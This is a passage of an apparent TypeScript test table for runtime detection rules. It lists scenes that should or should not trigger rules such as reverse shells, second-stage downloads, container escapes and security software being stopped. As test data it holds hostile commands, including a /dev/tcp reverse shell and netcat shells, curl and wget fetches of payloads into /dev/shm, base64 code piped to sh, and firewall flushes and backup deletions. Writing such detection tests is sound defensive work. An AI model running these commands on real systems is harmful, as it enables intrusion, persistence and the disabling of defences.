/* eslint-disable max-lines -- a table: one row for each rule */
/**
 * For each of our own rules over system calls: scenes on which it must fire, and scenes beside them on which it must
 * not. `fires` holds at least one scene; the rule fires in each of them exactly once.
 */
import { EVENT } from '../../src/events/index.js';
import {
  accepts,
  calls,
  connects,
  connectsByUdp,
  connectsTo,
  creates,
  createsProgram,
  empties,
  linksHard,
  linksSoftly,
  makes,
  makesFolder,
  reads,
  receives,
  removes,
  renames,
  runs,
  setsMode,
  writes,
  type Act,
  type Actor,
  type ProgramFacts,
  type Scene,
} from './our-rules-scenes.js';

/** What holds for a rule. */
export interface RuleCase {
  readonly fires: readonly Scene[];
  readonly stays?: readonly Scene[];
  /** A file that is loaded after ours, for a rule that waits for a list or macro of yours. */
  readonly local?: string;
}

const HOST: Actor = {};
const POD: Actor = { where: 'pod' };
const ENGINE_POD: Actor = { where: 'pod', parents: ['runc', 'containerd-shim'] };
const BUILD: Actor = { where: 'pod', name: 'sh', parents: ['apk', 'sh'] };

const scene = (by: Actor, ...does: readonly (Act | readonly Act[])[]): Scene => ({
  by,
  does: does.flat(),
});
const run = (by: Actor, command: string, facts: ProgramFacts = {}): Scene =>
  scene(by, runs(command.split(' '), facts));
const runArgs = (by: Actor, ...command: readonly string[]): Scene => scene(by, runs(command));

const macro = (name: string, condition: string): string =>
  `- macro: ${name}\n  condition: (${condition})\n`;
const list = (name: string, ...items: readonly string[]): string =>
  `- list: ${name}\n  items: [${items.map((item) => `'${item}'`).join(', ')}]\n`;

const ADA: Actor = { uid: 1000, loginuid: 1000, tty: 34817 };
const MEMFD = 4;
const UPPER_LAYER = 2;
const CAP_SYS_ADMIN = 1n << 21n;
const CAP_SYS_MODULE = 1n << 16n;
const SETUID_BIT = 0o4000;
const CLONE = { NEWUSER: 1 << 20, NEWNS: 32 };
const PTRACE = { ATTACH: 11, TRACEME: 1, CONT: 8 };

// prettier-ignore
export const OUR_RULE_CASES: Readonly<Record<string, RuleCase>> = {
  // execution
  'Terminal shell in container': {
    fires: [run({ ...ENGINE_POD, tty: 34817 }, 'sh'), run({ ...ENGINE_POD, tty: 34817, parents: ['containerd-shim'] }, 'bash -l')],
    stays: [run(ENGINE_POD, 'sh'), run({ ...POD, tty: 34817 }, 'sh'), run({ tty: 34817, parents: ['runc'] }, 'sh'), run({ ...ENGINE_POD, tty: 34817 }, 'ls')],
  },
  'Launch Package Management Process in Container': {
    fires: [run(POD, 'apk add curl'), run(POD, 'apt-get install -y nmap'), run(POD, 'pip install x')],
    stays: [run(HOST, 'apt-get update'), run({ ...POD, parents: ['apt-get'] }, 'dpkg --configure -a')],
  },
  'Shell With Input From The Network': {
    fires: [run({ ...POD, parents: ['httpd'], hasNetworkInput: true }, 'sh -i'), run({ hasNetworkInput: true }, 'bash')],
    stays: [run({ ...POD, hasNetworkInput: true }, 'cat'), run({ parents: ['inetd'], hasNetworkInput: true }, 'sh')],
  },
  'Reverse Shell In Command Line': {
    fires: [
      runArgs(POD, 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4443 0>&1'),
      runArgs(HOST, 'python3', '-c', 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'),
    ],
    stays: [runArgs(HOST, 'python3', '-c', 'import socket'), runArgs(HOST, 'ls', '/dev/tcp/')],
  },
  'Fileless execution via memfd_create': {
    fires: [run(HOST, 'x', { flags: MEMFD })],
    stays: [run(HOST, 'x'), run(HOST, 'runc init', { flags: MEMFD })],
  },
  'Known Cryptominer Process Executed': { fires: [run(POD, 'xmrig')], stays: [run(POD, 'xmonad')] },
  'Detect crypto miners using the Stratum protocol': {
    fires: [run(POD, 'worker -o stratum+tcp://pool.example:3333')],
    stays: [run(POD, 'worker -o https://pool.example')],
  },
  'Netcat Remote Code Execution in Container': {
    fires: [run(POD, 'nc -l -p 4444 -e /bin/sh'), run(POD, 'socat TCP-LISTEN:1 EXEC:/bin/sh')],
    stays: [run(POD, 'nc -z db 5432'), run(HOST, 'nc -e /bin/sh x 1')],
  },
  'Netcat/Socat Remote Code Execution on Host': {
    fires: [run(HOST, 'ncat --sh-exec id x 1')],
    stays: [run(HOST, 'ncat x 1'), run(POD, 'nc -e /bin/sh x 1')],
  },
  'Interpreter Given Encoded Code': {
    fires: [
      runArgs(POD, 'python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'),
      runArgs(HOST, 'sh', '-c', 'echo aWQK | base64 -d | sh'),
    ],
    stays: [runArgs(HOST, 'python3', '-c', 'print(1)'), runArgs(HOST, 'sh', '-c', 'base64 file')],
  },
  'Decoding Payload in Container': {
    fires: [run(POD, 'base64 -d')],
    stays: [run(POD, 'base64 file'), run(HOST, 'base64 -d')],
  },
  'Program Run Minutes After It Was Written': {
    fires: [
      run({ ...POD, isBorn: true }, 'x', { exepath: '/srv/x', writtenBefore: 60 }),
      run({ ...POD, isBorn: true }, 'x', { exepath: '/srv/x', writtenBefore: 60, flags: UPPER_LAYER }),
      run({ isBorn: true }, 'x', { exepath: '/tmp/x', writtenBefore: 60 }),
      run({ isBorn: true }, 'x', { exepath: '/home/ada/.cache/x', writtenBefore: 60 }),
      run({ isBorn: true, parents: ['sh', 'nginx'] }, 'x', { exepath: '/srv/x', writtenBefore: 60 }),
      run({ isBorn: true, parents: ['sh', 'cron'] }, 'x', { exepath: '/srv/x', writtenBefore: 60 }),
      // its own process wrote it, and became it
      run({ isBorn: true }, 'x', { exepath: '/run/x', writtenBefore: -60 }),
    ],
    stays: [
      run({ isBorn: true }, 'x', { exepath: '/home/ada/x', writtenBefore: 60 }),
      run({ isBorn: true }, 'x', { exepath: '/tmp/x', writtenBefore: 900 }),
      run({ ...POD, isBorn: true }, 'x', { exepath: '/srv/x', writtenBefore: 7200 }),
      run({ ...POD, isBorn: true }, 'x', { exepath: '/usr/bin/x', writtenBefore: 60 }),
      run({ isBorn: true, parents: ['dpkg'] }, 'x', { exepath: '/tmp/x', writtenBefore: 60 }),
      run({ isBorn: true, parents: ['make'] }, 'x', { exepath: '/tmp/x', writtenBefore: 60 }),
      run({ ...POD, isBorn: true }, 'runc', { exepath: '/tmp/runc', writtenBefore: 60 }),
      run({ ...POD, isBorn: true }, 'x', { exepath: 'memfd:x', writtenBefore: 60, flags: MEMFD }),
      run(HOST, 'x', { exepath: '/tmp/x', writtenBefore: 60 }),
    ],
  },
  'New Program Connected Out': {
    fires: [scene({ isBorn: true }, runs(['x'], { exepath: '/srv/x', writtenBefore: 60 }), connects('203.0.113.7', 443))],
    stays: [
      scene({ isBorn: true }, runs(['x'], { exepath: '/srv/x', writtenBefore: 60 }), connects('10.0.0.9', 443)),
      scene({ isBorn: true }, runs(['x'], { exepath: '/srv/x', writtenBefore: 900 }), connects('203.0.113.7', 443)),
      scene({ isBorn: true }, runs(['x'], { exepath: '/srv/x', writtenBefore: 60 }), reads('/srv/y')),
    ],
  },
  'Script Run From Temporary Folder': {
    fires: [
      run(HOST, 'x.sh', { exepath: '/usr/bin/dash', filename: '/tmp/x.sh' }),
      run({ ...POD, cwd: '/var/tmp/' }, 'x.sh', { exepath: '/usr/bin/dash', filename: './x.sh' }),
    ],
    stays: [
      run(HOST, 'x.sh', { exepath: '/usr/bin/dash', filename: '/srv/x.sh' }),
      run(HOST, 'x', { exepath: '/tmp/x' }),
      run({ parents: ['dpkg'] }, 'postinst', { exepath: '/usr/bin/dash', filename: '/tmp/dpkg/postinst' }),
    ],
  },
  'File Made Executable By A Server Or Under A Hidden Name': {
    fires: [
      scene({ name: 'chmod', parents: ['sh', 'nginx'] }, setsMode('/srv/x', 0o755)),
      scene({ ...POD, name: 'chmod', parents: ['postgres'] }, setsMode('/srv/x', 0o100)),
      scene(HOST, setsMode('/tmp/.x', 0o755)),
    ],
    stays: [
      scene({ name: 'chmod', parents: ['sh', 'nginx'] }, setsMode('/srv/x', 0o644)),
      scene({ name: 'chmod', parents: ['sh', 'nginx'] }, calls(EVENT.CHMOD_X, { res: -1, filename: '/srv/x', mode: 0o755 })),
      scene({ name: 'chmod', parents: ['dpkg', 'nginx'] }, setsMode('/srv/x', 0o755)),
      scene(HOST, setsMode('/tmp/x', 0o755)),
      scene(HOST, setsMode('/home/ada/.x', 0o755)),
    ],
  },
  'Second Stage Fetched': {
    fires: [
      run({ parents: ['sh', 'nginx'] }, 'curl -o /srv/x http://203.0.113.7/x'),
      run(HOST, 'wget -O /tmp/.x http://203.0.113.7/x'),
      run(POD, 'curl -s -o /dev/shm/x http://203.0.113.7/x'),
    ],
    stays: [
      run(HOST, 'curl -o /tmp/x http://203.0.113.7/x'),
      run({ parents: ['nginx'] }, 'wget -q --spider http://10.0.0.1/'),
      run({ parents: ['nginx'] }, 'curl http://10.0.0.1/'),
      scene({ name: 'curl', args: ['-o', '/tmp/.x', 'http://203.0.113.7/x'], parents: ['nginx'] }, reads('/etc/hosts')),
    ],
  },
  'Shell Started Without Its History': {
    fires: [run(HOST, 'bash', { env: ['HISTFILE=/dev/null'] }), run(POD, 'sh', { env: ['HISTSIZE=0'] }), run(HOST, 'zsh', { env: ['HISTFILESIZE=0'] })],
    stays: [run(HOST, 'bash', { env: ['HISTFILE=/root/.history', 'HISTSIZE=1000'] }), run(HOST, 'ls', { env: ['HISTFILE=/dev/null'] })],
  },
  'Program Masquerades As System Service': {
    fires: [run(HOST, 'sshd', { exepath: '/home/ada/sshd' }), run(POD, 'crond', { exepath: '/tmp/crond' })],
    stays: [run(HOST, 'sshd', { exepath: '/usr/sbin/sshd' }), run(HOST, 'x', { exepath: '/home/ada/x' }), run(HOST, 'sshd', { exepath: '' })],
  },
  'Compiler Run In Container': {
    fires: [run(POD, 'gcc -o x x.c'), run(POD, 'go build')],
    stays: [run(HOST, 'gcc -o x x.c'), run(POD, 'gccgo'), run({ ...POD, parents: ['apt-get'] }, 'gcc -o x x.c')],
  },
  'Udev Rule Written': {
    fires: [scene(HOST, writes('/etc/udev/rules.d/99-x.rules')), scene(POD, writes('/run/udev/rules.d/x.rules'))],
    stays: [
      scene({ name: 'dpkg' }, writes('/usr/lib/udev/rules.d/x.rules')),
      scene({ name: 'cp', parents: ['dpkg'] }, writes('/usr/lib/udev/rules.d/x.rules')),
      scene({ name: 'systemd-hwdb' }, writes('/etc/udev/hwdb.bin')),
      scene(HOST, reads('/etc/udev/rules.d/99-x.rules')),
    ],
  },
  'Browser Passwords Read': {
    fires: [
      scene({ name: 'cat' }, reads('/home/ada/.mozilla/firefox/x/logins.json')),
      scene({ name: 'cp' }, reads('/home/ada/.config/google-chrome/Default/Cookies')),
    ],
    stays: [scene({ name: 'firefox' }, reads('/home/ada/.mozilla/firefox/x/logins.json')), scene({ name: 'cat' }, writes('/home/ada/.mozilla/firefox/x/logins.json'))],
  },
  'Backups Or Snapshots Deleted': {
    fires: [run(HOST, 'lvremove -f vg0/daily'), run(HOST, 'btrfs subvolume delete /snap/1'), run(HOST, 'zfs destroy tank/a@b'), run(POD, 'restic forget --keep-last 0')],
    stays: [run(HOST, 'btrfs subvolume list /'), run(HOST, 'zfs list'), run(HOST, 'restic snapshots'), scene({ name: 'lvremove' }, reads('/etc/lvm/lvm.conf'))],
  },
  'Remote Access Tool Executed': {
    fires: [run(HOST, 'tmate -F'), run(POD, 'rustdesk')],
    stays: [run(HOST, 'tmux'), scene({ name: 'tmate' }, reads('/etc/hosts'))],
  },
  'Drop and execute new binary in container': {
    fires: [run(POD, 'x', { exepath: '/tmp/x', flags: UPPER_LAYER })],
    stays: [run(POD, 'x'), run(HOST, 'x', { flags: UPPER_LAYER })],
  },
  'Execution from /dev/shm': {
    fires: [
      run(HOST, 'x', { exepath: '/dev/shm/x' }),
      run(POD, 'sh /dev/shm/x.sh'),
      run({ cwd: '/dev/shm/' }, 'x', { exe: './x' }),
    ],
    stays: [run(HOST, 'ls /dev/shm/x'), run(HOST, 'sh x /dev/shm/y')],
  },
  'Hidden Program Executed': {
    fires: [run(HOST, '.x', { exepath: '/var/tmp/.x' })],
    stays: [run(HOST, 'x', { exepath: '/home/ada/.cargo/bin/x' })],
  },
  'Java Process Class File Download': {
    fires: [scene({ ...POD, name: 'java' }, connects('203.0.113.7', 8000), receives(Buffer.from('cafebabe00000034', 'hex')))],
    stays: [
      scene({ ...POD, name: 'java' }, connects('203.0.113.7', 8000), receives(Buffer.from('HTTP/1.1'))),
      scene({ ...POD, name: 'curl' }, connects('203.0.113.7', 8000), receives(Buffer.from('cafebabe', 'hex'))),
    ],
  },
  'Web Server Spawned Suspicious Child Process': {
    fires: [run({ where: 'pod', parents: ['httpd'] }, 'whoami'), run({ where: 'pod', parents: ['nginx'] }, 'curl http://x')],
    stays: [run({ where: 'pod', parents: ['nginx'] }, 'nginx -t'), run(POD, 'whoami')],
  },
  'Run shell untrusted': {
    fires: [
      run({ where: 'pod', parents: ['nginx'] }, 'sh -c id'),
      run({ parents: ['java'], parentArgs: ['-cp', 'catalina.jar'] }, 'bash -c id'),
    ],
    stays: [
      run({ where: 'pod', parents: ['crond'] }, 'sh -c backup'),
      run({ parents: ['java'], parentArgs: ['-jar', 'x.jar'] }, 'bash -c id'),
      run({ parents: ['httpd'] }, 'sh -c rotatelogs /var/log/x'),
      runArgs({ parents: ['nginx'] }, 'sh', '-c', 'uname -s 2>&1'),
    ],
  },
  'DB program spawned process': {
    fires: [run({ where: 'pod', parents: ['postgres'] }, 'sh -c id')],
    stays: [
      run({ where: 'pod', parents: ['postgres'] }, 'postgres -x'),
      run({ parents: ['initdb'] }, 'sh -c x'),
      runArgs({ where: 'pod', parents: ['postgres'] }, 'sh', '-c', 'locale -a'),
    ],
  },
  'System user interactive': {
    fires: [run({ uid: 33, tty: 34817 }, 'ls'), run({ uid: 33, parents: ['bash', 'sshd'] }, 'ls')],
    stays: [run({ uid: 33 }, 'ls'), run({ uid: 1000, tty: 34817 }, 'ls')],
  },

  // persistence
  'Dynamic Linker Preload Modified': {
    fires: [scene(HOST, writes('/etc/ld.so.preload')), scene(HOST, renames('/tmp/x', '/etc/ld.so.preload'))],
    stays: [scene(HOST, reads('/etc/ld.so.preload')), scene(HOST, renames('/tmp/x', '/etc/ld.so.conf'))],
  },
  'PAM Configuration Changed': {
    fires: [scene(HOST, writes('/etc/pam.d/sshd')), scene(HOST, writes('/lib/security/pam_unix.so'))],
    stays: [scene(HOST, reads('/etc/pam.d/sshd')), scene(BUILD, writes('/lib/security/pam_unix.so'))],
  },
  'Sudoers File Modified': {
    fires: [scene(HOST, writes('/etc/sudoers')), scene(HOST, creates('/etc/sudoers.d/x'))],
    stays: [scene({ name: 'visudo' }, writes('/etc/sudoers')), scene(HOST, reads('/etc/sudoers'))],
  },
  'Start-Up Service Written': {
    fires: [
      scene(HOST, creates('/etc/systemd/system/x.service')),
      scene(HOST, creates('/home/ada/.config/systemd/user/x.service')),
      scene(HOST, creates('/etc/init.d/x')),
    ],
    stays: [scene({ name: 'systemctl' }, creates('/etc/systemd/system/x.service'))],
  },
  'Schedule Cron Jobs': {
    fires: [scene(HOST, creates('/etc/cron.d/x')), run(POD, 'crontab -e'), scene(HOST, creates('/var/spool/cron/root')),
      scene(HOST, renames('/tmp/x', '/etc/cron.d/x')), scene(POD, linksSoftly('/tmp/x', '/etc/cron.hourly/x')), scene(HOST, linksHard('/tmp/x', '/var/spool/cron/root'))],
    stays: [scene({ name: 'crontab' }, renames('/var/spool/cron/tmp.1', '/var/spool/cron/root')), scene(HOST, renames('/etc/cron.d/x', '/tmp/x')), scene({ name: 'crond' }, creates('/var/spool/cron/root')), run(POD, 'crontab -l'), scene(BUILD, creates('/etc/cron.d/x'))],
  },
  'Modify Shell Configuration File': {
    fires: [scene(HOST, writes('/home/ada/.bashrc')), scene(HOST, creates('/etc/profile.d/x.sh')), scene(HOST, writes('/etc/profile'))],
    stays: [scene(HOST, reads('/home/ada/.bashrc')), scene(HOST, writes('/home/ada/.bash_history')), scene({ name: 'useradd' }, creates('/home/x/.bashrc'))],
  },
  'Adding ssh keys to authorized_keys': {
    fires: [scene(HOST, writes('/home/ada/.ssh/authorized_keys')), scene(POD, creates('/root/.ssh/authorized_keys'))],
    stays: [scene(HOST, writes('/home/ada/.ssh/known_hosts')), scene({ name: 'cloud-init' }, writes('/root/.ssh/authorized_keys'))],
  },
  'Web Server Wrote Script': {
    fires: [scene({ ...POD, name: 'httpd' }, creates('/var/www/up/x.php'))],
    stays: [scene({ ...POD, name: 'httpd' }, creates('/var/www/up/x.png')), scene(POD, creates('/var/www/x.php'))],
  },
  'User mgmt binaries': {
    fires: [run(HOST, 'useradd eve'), run({ ...POD, tty: 34817 }, 'passwd root')],
    stays: [run(POD, 'adduser -D app'), run(HOST, 'passwd -S root'), run({ parents: ['dpkg'] }, 'useradd x'), run(HOST, 'chage -l ada')],
  },
  'Update Package Repository': {
    fires: [scene(HOST, writes('/etc/apt/sources.list')), scene(POD, creates('/etc/apk/keys/x.pub'))],
    stays: [scene({ ...POD, name: 'apk' }, writes('/etc/apk/repositories')), scene(HOST, reads('/etc/apt/sources.list'))],
  },
  'Modify Container Entrypoint': {
    fires: [scene(POD, writes('/docker-entrypoint.sh'))],
    stays: [scene(HOST, writes('/docker-entrypoint.sh')), scene(POD, reads('/docker-entrypoint.sh'))],
  },
  'Write below binary dir': {
    fires: [scene(HOST, creates('/usr/bin/x'))],
    stays: [scene(HOST, creates('/usr/local/bin/x')), scene(BUILD, creates('/usr/bin/x')), scene(HOST, reads('/usr/bin/x'))],
  },
  'Modify binary dirs': {
    fires: [scene(HOST, removes('/usr/bin/x')), scene(HOST, renames('/usr/bin/x', '/tmp/y')), scene(HOST, renames('/tmp/y', '/bin/x'))],
    stays: [scene(HOST, removes('/tmp/x')), scene(BUILD, removes('/usr/bin/x'))],
  },
  'Mkdir binary dirs': {
    fires: [scene(HOST, makesFolder('/usr/sbin/x'))],
    stays: [scene(HOST, makesFolder('/srv/x')), scene(BUILD, makesFolder('/usr/sbin/x'))],
  },
  'Write below rpm database': {
    fires: [scene(HOST, writes('/var/lib/dpkg/status')), scene(HOST, writes('/var/lib/rpm/rpmdb.sqlite'))],
    stays: [scene({ name: 'dpkg' }, writes('/var/lib/dpkg/status')), scene(HOST, reads('/var/lib/dpkg/status'))],
  },
  'Write below monitored dir': {
    fires: [scene(HOST, creates('/usr/lib/x.so')), scene(HOST, writes('/boot/vmlinuz'))],
    stays: [scene(HOST, creates('/usr/lib/python3/__pycache__/x.pyc')), scene({ name: 'ldconfig' }, creates('/lib/x.so')), scene(BUILD, creates('/usr/lib/x.so'))],
  },
  'Create files below dev': {
    fires: [scene(HOST, creates('/dev/x'))],
    stays: [scene(HOST, creates('/dev/null')), scene(HOST, writes('/dev/x')), scene(HOST, creates('/dev/shm/x')), scene({ name: 'systemd-udevd' }, creates('/dev/x'))],
  },
  'Write below etc': {
    fires: [scene({ ...POD, name: 'sed' }, creates('/etc/passwdngFmAl')), scene(HOST, writes('/etc/ssh/sshd_config'))],
    stays: [scene(HOST, writes('/etc/hosts')), scene({ name: 'ldconfig' }, writes('/etc/ld.so.cache')), scene(BUILD, creates('/etc/x')), scene(HOST, reads('/etc/passwd'))],
  },
  'Write below root': {
    fires: [scene(HOST, creates('/root/.bash_history-01234.tmp')), scene(POD, creates('/x'))],
    stays: [
      scene(HOST, writes('/root/.bash_history')),
      scene(HOST, creates('/root/.cache/x/y')),
      scene({ name: 'ssh-keygen' }, creates('/root/.ssh/id_ed25519')),
      scene(HOST, creates('/srv/x')),
    ],
  },

  // privilege escalation
  'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)': {
    fires: [run(ADA, 'pkexec')],
    stays: [run(ADA, 'pkexec true')],
  },
  'Sudo Potential Privilege Escalation': {
    fires: [runArgs(ADA, 'sudoedit', '-s', 'aaaa\\')],
    stays: [runArgs(ADA, 'sudoedit', '/etc/hosts'), runArgs(ADA, 'sudoedit', '-s', 'aaaa')],
  },
  'Potential Local Privilege Escalation via Environment Variables Misuse': {
    fires: [run(ADA, 'su --help', { env: ['GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A'] })],
    stays: [run(ADA, 'x', { env: ['GLIBC_TUNABLES=glibc.malloc.mxfast=0:glibc.malloc.check=1'] })],
  },
  'Library Preloaded From Temporary Folder': {
    fires: [run(ADA, 'ls', { env: ['A=1', 'LD_PRELOAD=/tmp/x.so'] })],
    stays: [run(ADA, 'ls', { env: ['LD_PRELOAD=/usr/lib/libjemalloc.so'] })],
  },
  'Linux Kernel Module Injection Detected': {
    fires: [
      scene({ where: 'privileged', name: 'insmod', capabilities: CAP_SYS_MODULE }, calls(EVENT.FINIT_MODULE_X, { res: 0, fd: 3, uargs: '', flags: 0 })),
      scene({ where: 'privileged', name: 'insmod', capabilities: CAP_SYS_MODULE }, calls(EVENT.FINIT_MODULE_X, { res: -1, fd: 3, uargs: '', flags: 0 })),
    ],
    stays: [
      scene({ name: 'insmod', capabilities: CAP_SYS_MODULE }, calls(EVENT.FINIT_MODULE_X, { res: 0, fd: 3, uargs: '', flags: 0 })),
      scene({ ...POD, name: 'insmod' }, calls(EVENT.FINIT_MODULE_X, { res: -1, fd: 3, uargs: '', flags: 0 })),
    ],
  },
  'Kernel Module Loaded By Hand': {
    fires: [
      scene({ name: 'insmod' }, calls(EVENT.INIT_MODULE_X, { res: 0, length: 10, uargs: '' })),
      scene({ name: 'modprobe' }, calls(EVENT.INIT_MODULE_X, { res: -1, length: 10, uargs: '' })),
    ],
    stays: [scene({ name: 'systemd-udevd', parents: ['systemd'] }, calls(EVENT.INIT_MODULE_X, { res: 0, length: 10, uargs: '' })), scene({ name: 'insmod', parents: ['dpkg'] }, calls(EVENT.INIT_MODULE_X, { res: 0, length: 10, uargs: '' })), scene({ name: 'modprobe', parents: ['iptables'] }, calls(EVENT.INIT_MODULE_X, { res: 0, length: 10, uargs: '' }))],
  },
  'PTRACE attached to process': {
    fires: [scene(HOST, calls(EVENT.PTRACE_X, { res: 0, request: PTRACE.ATTACH, pid: 1 }))],
    stays: [scene(HOST, calls(EVENT.PTRACE_X, { res: 0, request: PTRACE.CONT, pid: 1 })), scene({ name: 'strace' }, calls(EVENT.PTRACE_X, { res: 0, request: PTRACE.ATTACH, pid: 1 }))],
  },
  'Process Memory Written By Another Process': {
    fires: [scene(HOST, calls(EVENT.PROCESS_VM_WRITEV_X, { res: 8, pid: 1 })), scene(HOST, writes('/proc/1/mem'))],
    stays: [scene({ name: 'gdb' }, writes('/proc/1/mem')), scene(HOST, reads('/proc/1/mem'))],
  },
  'Unprivileged Delegation of Page Faults Handling to a Userspace Process': {
    fires: [scene(ADA, calls(EVENT.USERFAULTFD_X, { res: 5, flags: 0 }))],
    stays: [scene(HOST, calls(EVENT.USERFAULTFD_X, { res: 5, flags: 0 })), scene(ADA, calls(EVENT.USERFAULTFD_X, { res: -1, flags: 0 }))],
  },
  'BPF Program Not Profiled': {
    fires: [scene(HOST, calls(EVENT.BPF_2_X, { fd: 5, cmd: 5 }))],
    stays: [scene(HOST, calls(EVENT.BPF_2_X, { fd: 5, cmd: 0 })), scene({ name: 'systemd' }, calls(EVENT.BPF_2_X, { fd: 5, cmd: 5 })), scene({ name: 'runc:[2:INIT]' }, calls(EVENT.BPF_2_X, { fd: 5, cmd: 5 }))],
  },
  'Set Setuid or Setgid bit': {
    fires: [scene(HOST, setsMode('/tmp/sh', SETUID_BIT | 0o755)), scene(HOST, setsMode('/tmp/sh', 0o2755))],
    stays: [scene(HOST, setsMode('/tmp/sh', 0o755)), scene(BUILD, setsMode('/bin/su', SETUID_BIT | 0o755))],
  },
  'File Capability Granted': {
    fires: [run(HOST, 'setcap cap_setuid+ep /usr/bin/python3')],
    stays: [run(HOST, 'setcap -r /usr/bin/python3'), run({ parents: ['dpkg'] }, 'setcap cap_net_raw+ep /bin/ping')],
  },
  'Non sudo setuid': {
    fires: [scene({ ...ADA, name: 'x' }, calls(EVENT.SETUID_X, { res: 0, uid: 0 }))],
    stays: [
      scene({ ...ADA, name: 'sudo' }, calls(EVENT.SETUID_X, { res: 0, uid: 0 })),
      scene({ ...ADA, name: 'x' }, calls(EVENT.SETUID_X, { res: -1, uid: 0 })),
      scene({ name: 'x' }, calls(EVENT.SETUID_X, { res: 0, uid: 0 })),
      scene({ ...ADA, name: 'x', parents: ['bash', 'sudo'] }, calls(EVENT.SETUID_X, { res: 0, uid: 0 })),
    ],
  },

  // container escape
  'Detect release_agent File Container Escapes': {
    fires: [scene(POD, writes('/tmp/cgrp/release_agent'))],
    stays: [scene(HOST, writes('/tmp/cgrp/release_agent')), scene(POD, reads('/tmp/cgrp/release_agent'))],
  },
  'Kernel Helper Path Written From Container': {
    fires: [scene(POD, writes('/proc/sys/kernel/core_pattern'))],
    stays: [scene(HOST, writes('/proc/sys/kernel/core_pattern')), scene(POD, reads('/proc/sys/kernel/core_pattern'))],
  },
  'Debugfs Launched in Privileged Container': {
    fires: [run({ where: 'privileged' }, 'debugfs /dev/sda1')],
    stays: [run(POD, 'debugfs /dev/sda1')],
  },
  'Mount Launched in Privileged Container': {
    fires: [run({ where: 'privileged' }, 'mount /dev/sda1 /mnt')],
    stays: [run({ where: 'privileged' }, 'mount'), run(POD, 'mount /dev/sda1 /mnt')],
  },
  'Host Namespaces Entered With nsenter': {
    fires: [run({ where: 'privileged' }, 'nsenter -t 1 -m sh'), run({ where: 'privileged' }, 'nsenter --target=1 --mount')],
    stays: [run(POD, 'nsenter -t 1234 -n ip a'), run(HOST, 'nsenter -t 1 -m sh')],
  },
  'Chroot Into Host From Container': {
    fires: [scene({ where: 'mounting', name: 'chroot' }, calls(EVENT.CHROOT_X, { res: 0, path: '/host' }))],
    stays: [scene({ name: 'chroot' }, calls(EVENT.CHROOT_X, { res: 0, path: '/host' })), scene({ where: 'pod', name: 'sshd' }, calls(EVENT.CHROOT_X, { res: 0, path: '/run/sshd' }))],
  },
  'Container Runtime Socket Contacted From Container': {
    fires: [scene({ where: 'mounting', name: 'curl' }, connectsTo('/var/run/docker.sock'))],
    stays: [scene({ name: 'docker' }, connectsTo('/var/run/docker.sock')), scene(POD, connectsTo('/run/mysqld/mysqld.sock'))],
  },
  'Privileged Container Device Access': {
    fires: [scene({ where: 'privileged', name: 'dd' }, reads('/dev/sda1')), scene({ where: 'privileged' }, reads('/dev/mem'))],
    stays: [scene({ name: 'dd' }, reads('/dev/sda1')), scene({ where: 'privileged' }, reads('/dev/null'))],
  },
  'Container Access to Host Sensitive Paths': {
    fires: [scene({ where: 'mounting', name: 'cat' }, reads('/host/etc/shadow')), scene(POD, writes('/proc/1/root/etc/crontab'))],
    stays: [scene({ where: 'mounting' }, reads('/host/proc/stat')), scene(HOST, reads('/host/etc/shadow'))],
  },
  'Change thread namespace': {
    fires: [scene(POD, calls(EVENT.SETNS_X, { res: 0, fd: 3, nstype: CLONE.NEWNS }))],
    stays: [scene(HOST, calls(EVENT.SETNS_X, { res: 0, fd: 3, nstype: 32 })), scene({ ...POD, name: 'runc:[2:INIT]' }, calls(EVENT.SETNS_X, { res: 0, fd: 3, nstype: 32 }))],
  },
  'Change namespace privileges via unshare': {
    fires: [scene(POD, calls(EVENT.UNSHARE_X, { res: 0, flags: CLONE.NEWUSER }))],
    stays: [
      scene(POD, calls(EVENT.UNSHARE_X, { res: 0, flags: CLONE.NEWNS })),
      scene({ where: 'pod', name: 'bwrap' }, calls(EVENT.UNSHARE_X, { res: 0, flags: CLONE.NEWUSER })),
      scene(HOST, calls(EVENT.UNSHARE_X, { res: 0, flags: CLONE.NEWUSER })),
    ],
  },
  'Launch Sensitive Mount Container': {
    fires: [run({ where: 'mounting', vpid: 1 }, 'monitor')],
    stays: [run({ where: 'pod', vpid: 1 }, 'httpd'), run({ where: 'mounting', vpid: 9 }, 'ls')],
  },
  'Launch Privileged Container': {
    fires: [run({ where: 'privileged', vpid: 1 }, 'agent')],
    stays: [run({ where: 'pod', vpid: 1 }, 'httpd'), run({ where: 'privileged', vpid: 9 }, 'ls')],
  },
  'Launch Excessively Capable Container': {
    fires: [run({ where: 'pod', vpid: 1, capabilities: CAP_SYS_ADMIN }, 'httpd')],
    stays: [run({ where: 'pod', vpid: 1 }, 'httpd'), run({ where: 'privileged', vpid: 1, capabilities: CAP_SYS_ADMIN }, 'agent')],
  },

  // defence evasion
  'Redirect STDOUT/STDIN to Network Connection in Container': {
    fires: [scene(POD, connects('203.0.113.7', 9001), calls(EVENT.DUP2_X, { res: 0, oldfd: 8, newfd: 0 }))],
    stays: [
      scene(HOST, connects('203.0.113.7', 9001), calls(EVENT.DUP2_X, { res: 0, oldfd: 8, newfd: 0 })),
      scene(POD, connects('203.0.113.7', 9001), calls(EVENT.DUP2_X, { res: 7, oldfd: 8, newfd: 7 })),
      scene(POD, reads('/srv/x'), calls(EVENT.DUP2_X, { res: 0, oldfd: 9, newfd: 0 })),
    ],
  },
  'Security Software Stopped': {
    fires: [run(HOST, 'systemctl stop auditd'), run(HOST, 'pkill -9 falco'), run(HOST, 'setenforce 0'), run(HOST, 'auditctl -e 0')],
    stays: [run(HOST, 'systemctl stop nginx'), run(HOST, 'systemctl status auditd'), run(HOST, 'setenforce 1')],
  },
  'Firewall Turned Off': {
    fires: [run(HOST, 'iptables -F'), run(HOST, 'nft flush ruleset'), run(HOST, 'ufw disable'), run(HOST, 'systemctl stop firewalld')],
    stays: [run(HOST, 'iptables -L'), run(HOST, 'ufw status'), run({ parents: ['dockerd'] }, 'iptables -F')],
  },
  'Program Masquerades As Kernel Thread': {
    fires: [run(HOST, 'x', { exe: '[kworker/0:1]', exepath: '/tmp/x' })],
    stays: [run(HOST, '[ -f x ]', { exe: '[' })],
  },
  'Clear Log Activities': {
